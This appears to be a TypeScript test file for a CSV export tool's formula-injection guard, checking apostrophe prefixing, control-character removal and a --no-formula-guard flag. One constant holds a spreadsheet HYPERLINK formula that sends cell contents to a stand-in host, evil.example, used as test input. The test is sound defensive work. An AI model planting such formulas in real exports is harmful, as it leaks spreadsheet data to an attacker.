import fc from 'fast-check';
import {readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import Papa from 'papaparse';
import Run from '../src/commands/run.js';
import {isFormulaStart, newTextCellStats, safeText, unguardText} from '../src/core/text-cells.js';
import {COMPANY_TABLE} from '../src/generated/tables.js';
import {TableCodec, type TableColumn} from '../src/io/table-codec.js';
import {companyCodec} from '../src/stages/codecs.js';
import {CLAY_HEADER, clayCsv, runCli, tempDir} from './helpers/cli.js';

const CONFIG = join(process.cwd(), 'config');
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/** Strings made mostly of the characters the rule looks at. */
const tricky = fc.string({unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', 'a', ' ', '1', '\u0000', '\u0007', '\u001f', 'é')});
const stripControls = (s: string) => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '');

describe('the formula guard and control characters of text cells', () => {
  it('a cell read back gives the value written (control characters aside), guard on or off; a guarded cell never starts like a formula', () => {
    fc.assert(
      fc.property(tricky, fc.boolean(), (s, guard) => {
        const stats = newTextCellStats();
        const cell = safeText(s, guard, stats);
        expect(unguardText(cell)).toBe(stripControls(s));
        expect(stats.control_chars_removed).toBe(s.length - stripControls(s).length);
        if (guard && cell.length > 0) expect(isFormulaStart(cell.charCodeAt(0))).toBe(false);
        expect(stats.formula_cells).toBe(stripControls(s).length > 0 && isFormulaStart(stripControls(s).charCodeAt(0)) ? 1 : 0);
      }),
      {numRuns: 2000},
    );
    const stats = newTextCellStats();
    expect(['=1+1', '+44 20', '-x', '@SUM(A1)', '\tx', '\rx', "'=x", "'abc", 'plain', "''-1"].map((s) => safeText(s, true, stats))).toEqual([
      "'=1+1",
      "'+44 20",
      "'-x",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      "''=x",
      "'abc",
      'plain',
      "'''-1",
    ]);
    expect(["'=1+1", "''=x", "'abc", '=raw'].map(unguardText)).toEqual(['=1+1', "'=x", "'abc", '=raw']);
  });

  it('only text and list columns of a codec with safeText: numbers, booleans and plain columns are written as they are', () => {
    const cols: TableColumn[] = [
      {name: 'n', kind: 'number', nullable: true, plain: false},
      {name: 't', kind: 'string', nullable: false, plain: false},
      {name: 'p', kind: 'string', nullable: false, plain: true},
      {name: 'l', kind: 'list', nullable: false, plain: false},
    ];
    const safe = new TableCodec<Record<string, unknown>>(cols, {safeText: true});
    const row = {n: -5, t: '-5', p: 'tier_1', l: ['+a', 'b']};
    expect(safe.line(row)).toBe("-5,'-5,tier_1,'+a | b\n");
    expect(safe.line(row)).toBe(`${Papa.unparse([safe.encode(row)], {newline: '\n'})}\n`);
    expect(safe.decode(['-5', "'-5", 'tier_1', "'+a | b"])).toEqual(row);
    // A codec without safeText (the simulation's own tables) is unchanged.
    expect(new TableCodec<Record<string, unknown>>(cols).line(row)).toBe('-5,-5,tier_1,+a | b\n');
    expect(companyCodec.safe).toBe(true);
    expect(COMPANY_TABLE.filter((c) => c.kind === 'number').map((c) => c.name)).toContain('icp_score');
  });

  it('run: cells from the export are guarded in companies.csv and unified.csv, counted, read back exactly; --no-formula-guard writes them raw', async () => {
    const t = tempDir();
    try {
      const input = join(t.dir, 'export.csv');
      const row = (name: string, description: string, domain: string, industry = 'Hospitals and Health Care') => [
        '',
        name,
        description,
        industry,
        '11-50',
        'Privately Held',
        'Denver, CO',
        'United States',
        domain,
        '',
      ];
      writeFileSync(
        input,
        clayCsv(CLAY_HEADER, [
          row(FORMULA, 'Claims and eligibility', 'evil.com'),
          row('+1 Health', '-- EDI 837 claims\u0000 and \u0007remittance', 'plus.com', '@Hospitals'),
          row("'=Not a formula", 'Home care', 'quote.com'),
          row('Plain Co', 'Home care', 'plain.com'),
        ]),
      );
      const base = ['--input', input, '--config-dir', CONFIG, '--provider', 'rules', '--no-report', '--json'];
      const data = join(t.dir, 'data');
      const r = await runCli(Run, [...base, '--data-dir', data]);
      expect(r.exitCode).toBe(0);
      const companies = readFileSync(join(data, 'raw', 'companies.csv'), 'utf8');
      // Counted: the guarded cells of companies.csv (not the one with an extra apostrophe, which is no formula), and
      // the two control characters of the description wherever its text went (the description, the evidence).
      const cells = Papa.parse<string[]>(companies, {skipEmptyLines: true}).data.slice(1).flat();
      const guarded = cells.filter((v) => v.startsWith("'") && isFormulaStart(v.charCodeAt(1))).length;
      const withText = cells.filter((v) => v.includes('claims and remittance')).length;
      expect(guarded).toBeGreaterThanOrEqual(4);
      expect(withText).toBeGreaterThanOrEqual(1);
      const counted = {formula_guard: true, formula_cells: guarded, control_chars_removed: 2 * withText};
      expect(JSON.parse(r.stdout).enrich.text_cells).toEqual(counted);
      const unified = readFileSync(join(data, 'final', 'unified.csv'), 'utf8');
      for (const text of [companies, unified]) {
        const rows = Papa.parse<Record<string, string>>(text, {header: true, skipEmptyLines: true}).data;
        const byDomain = new Map(rows.map((x) => [x.domain, x]));
        expect(byDomain.get('evil.com')!.name).toBe(`'${FORMULA}`);
        expect(byDomain.get('plus.com')!.name).toBe("'+1 Health");
        expect(byDomain.get('plus.com')!.industry).toBe("'@Hospitals");
        expect(byDomain.get('quote.com')!.name).toBe("''=Not a formula");
        expect(byDomain.get('plain.com')!.name).toBe('Plain Co');
        for (const x of rows) for (const v of Object.values(x)) expect(isFormulaStart(v.charCodeAt(0)) && !/^-?\d/.test(v)).toBe(false);
      }
      expect(companies).toContain("'-- EDI 837 claims and remittance");
      expect(companies).not.toMatch(/[\u0000\u0007]/);
      // Read back by the codec: the values of the export (control characters removed).
      const records = Papa.parse<string[]>(companies, {skipEmptyLines: true})
        .data.slice(1)
        .map((f) => companyCodec.decode(f));
      expect(records.map((c) => c.name).sort()).toEqual(["'=Not a formula", '+1 Health', FORMULA, 'Plain Co'].sort());
      expect(records.find((c) => c.name === '+1 Health')!.description).toBe('-- EDI 837 claims and remittance');
      // `run --from deals` copies the cells of companies.csv: the same unified.csv.
      expect((await runCli(Run, ['--config-dir', CONFIG, '--no-report', '--data-dir', data, '--from', 'deals'])).exitCode).toBe(0);
      expect(readFileSync(join(data, 'final', 'unified.csv'), 'utf8')).toBe(unified);

      const raw = join(t.dir, 'raw');
      const r2 = await runCli(Run, [...base, '--data-dir', raw, '--no-formula-guard']);
      expect(JSON.parse(r2.stdout).enrich.text_cells).toEqual({...counted, formula_guard: false});
      const rawCompanies = readFileSync(join(raw, 'raw', 'companies.csv'), 'utf8');
      expect(rawCompanies).toContain(`"${FORMULA.replaceAll('"', '""')}"`);
      expect(rawCompanies).toContain(',+1 Health,');
      // Not a formula, so written with its extra apostrophe either way (read back the same).
      expect(rawCompanies).toContain(",''=Not a formula,");
    } finally {
      t.cleanup();
    }
  });
});
